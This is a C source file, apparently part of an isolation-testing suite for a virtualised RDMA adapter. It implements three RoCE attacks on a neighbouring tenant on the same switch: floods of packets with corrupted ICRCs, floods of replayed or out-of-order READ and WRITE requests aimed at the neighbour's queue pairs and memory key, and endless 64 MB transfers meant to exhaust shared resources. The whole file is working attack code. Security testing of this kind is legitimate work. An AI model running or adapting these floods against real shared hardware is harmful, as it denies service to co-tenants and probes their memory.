/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * rdma.c - attacks with RoCE: packets to the queue pairs of the neighbour, which is on the same
 * switch, and endless requests of the attacker's own.
 */
#include "rnic.h"

#include <errno.h>
#include <string.h>

#include "attacker.h"
#include "attacks.h"
#include "base/clock.h"
#include "neighbour.h"
#include "wire/rnic.h"

#define MEMORY   (48u << 20) /* bytes */
#define QUEUES   16u
#define RING     65536u /* bytes of a ring of frames */
#define SPARSE   4096u  /* bytes of completions where only the last entry of a ring asks for one */
#define OWN      16u    /* queue pairs of the attacker's own, two by two */
#define CHUNK    (1u << 20)
#define CHUNKS   64u                                /* the same one, over and over: */
#define LONG     (CHUNK * CHUNKS)                   /* bytes of a request */
#define PARTS    (LONG / RNIC_MTU)                  /* packets of it */
#define ANSWERED (NEIGHBOUR_RDMA_MEMORY / RNIC_MTU) /* packets of the longest READ there */

static const uint8_t attacker_mac[6] = { NEIGHBOUR_RDMA_MAC, 1 };
static const uint8_t neighbour_mac[6] = { NEIGHBOUR_RDMA_MAC, 2 };
static struct queue queues[QUEUES];

/* ---- Packets ---- */

/** struct frame - a packet that goes out as an ordinary frame */
struct frame {
	const uint8_t *bytes;
	uint32_t len;
};

/** frame_roce() - a request to queue pair @number of the neighbour, with the ICRC inverted by @wrong */
static struct frame frame_roce(struct attacker *attacker, const struct roce_packet *like,
			       uint32_t number, uint8_t wrong)
{
	struct roce_address address = { .ip_version = 4,
					.src_ip = { 192, 0, 2, NEIGHBOUR_RDMA_PEER },
					.dst_ip = { 192, 0, 2, NEIGHBOUR_RDMA_HOST },
					.hop_limit = 64,
					.udp_source = 0xc123 };
	struct roce_packet packet = *like;
	uint8_t *bytes = attacker_alloc(attacker, 2 * MANA_PAGE_SIZE);
	struct iovec payload;
	uint32_t end;

	memcpy(address.src_mac, attacker_mac, sizeof(address.src_mac));
	memcpy(address.dst_mac, neighbour_mac, sizeof(address.dst_mac));
	packet.pkey = ROCE_PKEY;
	packet.dest_qpn = number;
	roce_build(&packet, &address);
	memcpy(bytes, packet.headers, packet.payload_off);
	payload = (struct iovec){ bytes + packet.payload_off, packet.payload_len };
	end = packet.payload_off + packet.payload_len;
	end += roce_trailer(&packet, &payload, 1, bytes + end);
	bytes[end - 1] ^= wrong;
	return (struct frame){ bytes, end };
}

/** frames_flood() - send these frames in turn, from all queues, for ever */
static void __attribute__((noreturn))
frames_flood(struct attacker *attacker, const struct frame *frames, unsigned int n)
{
	unsigned int next = 0;

	for (unsigned int i = 0; i < QUEUES; i++) {
		struct driver_wq *wq = &queues[i].wq;

		queue_open(attacker, 0, GDMA_SQ, RING, SPARSE, GDMA_CQ_NO_EQ, &queues[i]);
		for (uint32_t at = 0; at <= wq->mask; at++) {
			const struct frame *frame = &frames[next++ % n];

			wq->ring[at] = entry_plain(&queues[i], frame->bytes, attacker->hwc->key,
						   frame->len);
		}
		wq->ring[wq->mask].word[1] &= ~DRIVER_TX_SUPPRESS;
	}
	attack_begin();
	queues_flood(attacker, queues, QUEUES, 1);
}

static uint32_t rkey;

void rdma_target(uint32_t key)
{
	rkey = key;
}

/** invalid() - full packets to queue pairs that exist, whose ICRC is wrong in its last byte */
static void invalid(const char *socket)
{
	const struct roce_packet write = { .service = ROCE_SERVICE_RC,
					   .operation = ROCE_WRITE_ONLY,
					   .payload_len = RNIC_MTU,
					   .length = RNIC_MTU,
					   .rkey = rkey,
					   .psn = RNIC_PSN };
	struct frame frames[NEIGHBOUR_RDMA_PAIRS];
	struct attacker attacker;

	attacker_open(&attacker, socket, MEMORY, false);
	for (unsigned int i = 0; i < NEIGHBOUR_RDMA_PAIRS; i++)
		frames[i] = frame_roce(&attacker, &write, NEIGHBOUR_RDMA_QPN(i), 1);
	frames_flood(&attacker, frames, NEIGHBOUR_RDMA_PAIRS);
}

/** peer() - all that is answered: READs and WRITEs that came before, and what comes too early */
static void peer(const char *socket)
{
	struct roce_packet kinds[] = {
		{ .operation = ROCE_READ_REQUEST, .psn = RNIC_PSN - ANSWERED },
		{ .operation = ROCE_READ_REQUEST, .psn = RNIC_PSN - 2 * ANSWERED },
		{ .operation = ROCE_READ_REQUEST, .psn = RNIC_PSN - 3 * ANSWERED },
		{ .operation = ROCE_WRITE_ONLY, .psn = RNIC_PSN - 1, .payload_len = 1024 },
		{ .operation = ROCE_SEND_ONLY, .psn = RNIC_PSN - 1 },
		{ .operation = ROCE_SEND_ONLY, .psn = RNIC_PSN + 1 },
		{ .operation = ROCE_ACK, .psn = RNIC_PSN },
		{ .operation = ROCE_READ_MIDDLE, .psn = RNIC_PSN, .payload_len = RNIC_MTU },
	};
	enum { KINDS = sizeof(kinds) / sizeof(kinds[0]) };
	struct frame frames[KINDS * (NEIGHBOUR_RDMA_PAIRS + 1)];
	struct attacker attacker;
	unsigned int n = 0;

	attacker_open(&attacker, socket, MEMORY, false);
	for (unsigned int kind = 0; kind < KINDS; kind++) {
		kinds[kind].service = ROCE_SERVICE_RC;
		kinds[kind].rkey = rkey;
		kinds[kind].length = kinds[kind].operation == ROCE_READ_REQUEST
					     ? NEIGHBOUR_RDMA_MEMORY
					     : kinds[kind].payload_len;
		kinds[kind].ack_request = true;
		/* The last is for a queue pair that does not exist. */
		for (unsigned int i = 0; i <= NEIGHBOUR_RDMA_PAIRS; i++)
			frames[n++] = frame_roce(&attacker, &kinds[kind], NEIGHBOUR_RDMA_QPN(i), 0);
	}
	frames_flood(&attacker, frames, n);
}

/* ---- Requests ---- */

/** post() - fill the rings of a queue pair with WRITEs or READs of LONG bytes */
static void post(const struct attacker *attacker, struct rnic_pair *pair, uint32_t key, bool read)
{
	const struct driver_doorbell *doorbell = driver_doorbell(attacker->driver);
	const uint32_t units = 64 / GDMA_WQE_UNIT;

	for (uint32_t at = 0; at <= pair->send.mask; at += units) {
		const uint32_t psn = RNIC_PSN + at / units * PARTS;
		struct gdma_wqe header = { .num_sge = 1, .inline_oob_size_div4 = 6 };
		struct rnic_send_oob oob = { .wqe_type = read ? RNIC_WQE_READ : RNIC_WQE_WRITE,
					     .psn = psn & ROCE_PSN_MASK,
					     .rdma = { .rkey = key, .length = LONG } };
		const struct gdma_sge sge = { 0, key, LONG }, none = { 1, 0, 0 };
		uint8_t *wqe = (uint8_t *)&pair->send.ring[at];

		memcpy(wqe, &header, sizeof(header));
		memcpy(wqe + 8, &oob, sizeof(oob));
		memcpy(wqe + 32, read ? &none : &sge, sizeof(sge));
		if (!read)
			continue;
		wqe = (uint8_t *)&pair->read.ring[at / units];
		header.inline_oob_size_div4 = 2;
		memcpy(wqe, &header, sizeof(header));
		memcpy(wqe + 16, &sge, sizeof(sge));
		pair->read.tail++;
	}
	pair->send.tail += pair->send.mask + 1;
	if (read)
		driver_wq_commit(&pair->read, doorbell);
	driver_wq_commit(&pair->send, doorbell);
}

/** own() - queue pairs that write and read 64 MB at a time, for longer than the attack lasts */
static void own(const char *socket)
{
	uint64_t pages[CHUNKS];
	struct rnic_pair pairs[OWN];
	struct attacker attacker;
	struct rnic rnic;

	attacker_open(&attacker, socket, MEMORY, false);
	for (unsigned int i = 0; i < CHUNKS; i++)
		pages[i] = ((uintptr_t)attacker.arena.memory + MEMORY / 2 + CHUNK) &
			   ~(uint64_t)(CHUNK - 1);
	attack_check(rnic_open(&rnic, attacker.hwc, &attacker.arena, attacker_mac,
			       NEIGHBOUR_RDMA_PEER, attacker_region(&attacker, pages, CHUNKS, 20)),
		     "the RDMA device");
	for (unsigned int i = 0; i < OWN; i++)
		attack_check(rnic_pair_open(&rnic, &pairs[i]), "a queue pair");
	for (unsigned int i = 0; i < OWN; i++)
		attack_check(rnic_pair_connect(&rnic, &pairs[i], attacker_mac, NEIGHBOUR_RDMA_PEER,
					       pairs[i ^ 1].number),
			     "connecting a queue pair");
	attack_begin();
	for (unsigned int i = 0; i < OWN; i++)
		post(&attacker, &pairs[i], rnic.rkey, i & 2);
	for (;;) {
		attack_check(attacker.transport->ops->alive(attacker.transport), "requests");
		clock_pause_us(1000);
	}
}

#define PORT "--port mac=00:0d:3a:00:52:01,fabric=switch:roce,mtu=4500,queues=16"

const struct attack rdma[] = {
	{ "roce-invalid", invalid, PORT, false },
	{ "roce-peer", peer, PORT, false },
	{ "roce-own", own, PORT, false },
	{ 0 },
};
